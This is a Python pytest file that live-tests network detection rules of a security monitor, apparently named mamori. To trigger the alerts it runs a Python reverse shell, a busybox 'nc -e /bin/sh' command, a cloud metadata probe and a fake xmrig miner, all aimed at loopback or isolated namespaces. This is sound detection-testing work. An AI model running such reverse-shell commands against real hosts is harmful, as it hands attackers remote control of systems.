"""Live: the rules of network.yaml. Reverse shells wire a shell to a loopback socket this
test listens on; container connects use the probe's non-blocking connect (the attempt
is the event: nothing needs to answer); the mining-pool connect runs in a throwaway
network namespace where the "public" address is on its own loopback, so no packet
leaves the host."""

from __future__ import annotations

import os
import shutil
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.detections.live import (
    Box,
    LiveAgent,
    any_field_has,
    build_probe,
    container_fields,
    field_has,
    field_is,
    run,
    unique,
    wait_metadata,
)
from tests.support import need_tool

pytestmark = [pytest.mark.root, pytest.mark.slow]


@pytest.fixture(scope="module")
def box(live_podman: LiveAgent, podman: str, image: str) -> Iterator[Box]:
    b = Box(podman, image, "mamori-live-net")
    wait_metadata(live_podman, b)
    yield b
    b.remove()


REVERSE = """
import os, socket, sys
mode, port, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
if mode == "socket":
    s = socket.create_connection(("127.0.0.1", port))
    fd = s.fileno()
else:  # the neighbour: stdout to a file, stdin from a pipe
    fd = os.open(os.devnull, os.O_WRONLY)
    os.dup2(os.pipe()[0], 0)
os.dup2(fd, 1)
os.dup2(fd, 0) if mode == "socket" else None
os.execv("/bin/sh", ["sh", "-c", ": " + marker])
"""


def test_reverse_shell(live_podman: LiveAgent, tmp_path: Path) -> None:
    """Standard streams dup'ed onto a TCP socket, then a shell exec'd on them: both
    rules; the same program wiring a file and a pipe: neither."""
    link = tmp_path / "mrevsh"
    link.symlink_to(os.path.realpath(sys.executable))
    bad, good = unique("revsh"), unique("pipesh")
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        port = server.getsockname()[1]
        run([str(link), "-c", REVERSE, "file", str(port), good])
        shell = run([str(link), "-c", REVERSE, "socket", str(port), bad])
        server.accept()[0].close()
    dup = live_podman.wait(
        "Standard input or output redirected to a network socket",
        field_is("proc.pid", shell.pid),
    )
    assert dup.fields["proc.name"] == "mrevsh" and dup.fields["evt.type"] in ("dup2", "dup3")
    assert dup.fields["evt.rawres"] in (0, 1)
    assert str(dup.fields["fd.name"]).endswith(f"->127.0.0.1:{port}")
    assert dup.fields["fd.rport"] == port
    started = live_podman.wait(
        "Shell started with a network socket as standard input or output",
        field_has("proc.cmdline", bad),
    )
    assert started.fields["proc.name"] == "sh" and started.fields["proc.pid"] == shell.pid
    assert started.fields["fd.types[0]"] == ("ipv4",)
    live_podman.quiet(field_has("proc.cmdline", good))


def test_netcat_reverse_shell_in_a_container(live_podman: LiveAgent, box: Box) -> None:
    """busybox nc -e in a container, to a listener on the container's own loopback: the
    netcat rule, the dup of the socket onto stdin/stdout and the shell on it all alert.
    The same nc without -e (a plain client piping a line) is the neighbour."""
    bad, good = unique("ncsh"), unique("ncplain")
    listen = "/bin/nc -l -p {port} -w 5 </dev/null >/dev/null & /bin/sleep 1; "
    box.sh(listen.format(port=4445) + f"echo {good} | /bin/nc 127.0.0.1 4445; wait")
    done = box.sh(
        listen.format(port=4444) + f"/bin/nc 127.0.0.1 4444 -e /bin/sh -c ': {bad}'; wait"
    )
    assert done.returncode == 0, done
    nc = live_podman.wait("Netcat or socat remote code execution", field_has("proc.cmdline", bad))
    assert nc.fields["proc.name"] == "nc"
    dup = live_podman.wait(
        "Standard input or output redirected to a network socket",
        field_has("proc.cmdline", bad),
    )
    assert dup.fields["proc.name"] == "nc" and dup.fields["fd.rport"] == 4444
    shell = live_podman.wait(
        "Shell started with a network socket as standard input or output",
        field_has("proc.cmdline", bad),
    )
    # busybox nc dups the socket onto its own stdio and execs the program in place
    assert shell.fields["proc.name"] == "sh" and shell.fields["proc.pid"] == dup.fields["proc.pid"]
    for alert in (nc, dup, shell):
        container_fields(alert, box)
    live_podman.quiet(any_field_has(good))


def test_cloud_metadata_from_a_container(live_podman: LiveAgent, box: Box, tmp_path: Path) -> None:
    rule = "Cloud metadata service contacted from a container"
    bad = box.sh("/usr/local/bin/probe tcp 169.254.169.254 80")
    assert "-1 115" in bad.stdout, bad  # EINPROGRESS: the SYN left, nobody answers here
    alert = live_podman.wait(rule, field_has("fd.sip", "169.254.169.254"))
    assert alert.fields["proc.name"] == "probe"
    assert str(alert.fields["fd.name"]).endswith("->169.254.169.254:80")
    container_fields(alert, box)
    host = run([str(build_probe(tmp_path)), "tcp", "169.254.169.254", "80"])
    neighbour = box.sh("/usr/local/bin/probe tcp 169.254.169.253 80")
    assert "-1 115" in neighbour.stdout, neighbour
    live_podman.quiet(field_is("proc.pid", host.pid), rule)
    live_podman.quiet(field_has("fd.sip", "169.254.169.253"), rule)


def test_kubernetes_api_from_a_pod(live_podman: LiveAgent, box: Box) -> None:
    rule = "Kubernetes API server contacted from a pod"
    box.sh("/usr/local/bin/probe tcp 10.96.0.1 80")
    box.sh("/usr/local/bin/probe tcp 10.96.0.1 443")
    alert = live_podman.wait(rule, field_has("fd.name", "->10.96.0.1:443"))
    assert alert.fields["proc.name"] == "probe"
    container_fields(alert, box)
    live_podman.quiet(field_has("fd.name", "->10.96.0.1:80"), rule)


def test_mining_pool_port(live_podman: LiveAgent, tmp_path: Path) -> None:
    rule = "Connection to a mining pool port"
    need_tool("unshare")
    need_tool("ip")
    probe = build_probe(tmp_path)
    marker = tmp_path / unique("pool")
    marker.mkdir()
    copy = shutil.copy2(probe, marker / "probe")
    script = (
        "ip link set lo up && ip addr add 198.51.100.7/32 dev lo && "
        f"{copy} tcp 198.51.100.7 8080 && {copy} tcp 127.0.0.1 3333 && "
        f"{copy} tcp 198.51.100.7 3333"
    )
    done = run(["unshare", "--net", "/bin/sh", "-c", script])
    assert done.stdout.count("-1 115") == 3, done
    alert = live_podman.wait(rule, field_has("proc.exepath", str(marker)))
    assert alert.fields["fd.sip"] == "198.51.100.7" and alert.fields["fd.sport"] == 3333
    mine = field_has("proc.exepath", str(marker))
    assert len(live_podman.matching(rule, mine)) == 1, live_podman.matching(rule, mine)


def test_crypto_miner_started(live_podman: LiveAgent, tmp_path: Path) -> None:
    rule = "Crypto miner started"
    xmrig = tmp_path / "xmrig"
    xmrig.symlink_to("/bin/true")
    by_name, by_url, good = unique("name"), unique("url"), unique("plain")
    run(["/bin/echo", f"pool.example.org:3333 {good}"])
    run([str(xmrig), "-o", f"pool.example.org:3333 {by_name}"])
    run(["/bin/echo", f"stratum+tcp://pool.example.org:3333 {by_url}"])
    alert = live_podman.wait(rule, field_has("proc.cmdline", by_name))
    assert alert.fields["proc.name"] == "xmrig" and alert.priority == "Critical"
    url = live_podman.wait(rule, field_has("proc.cmdline", by_url))
    assert url.fields["proc.name"] == "echo"
    live_podman.quiet(field_has("proc.cmdline", good))
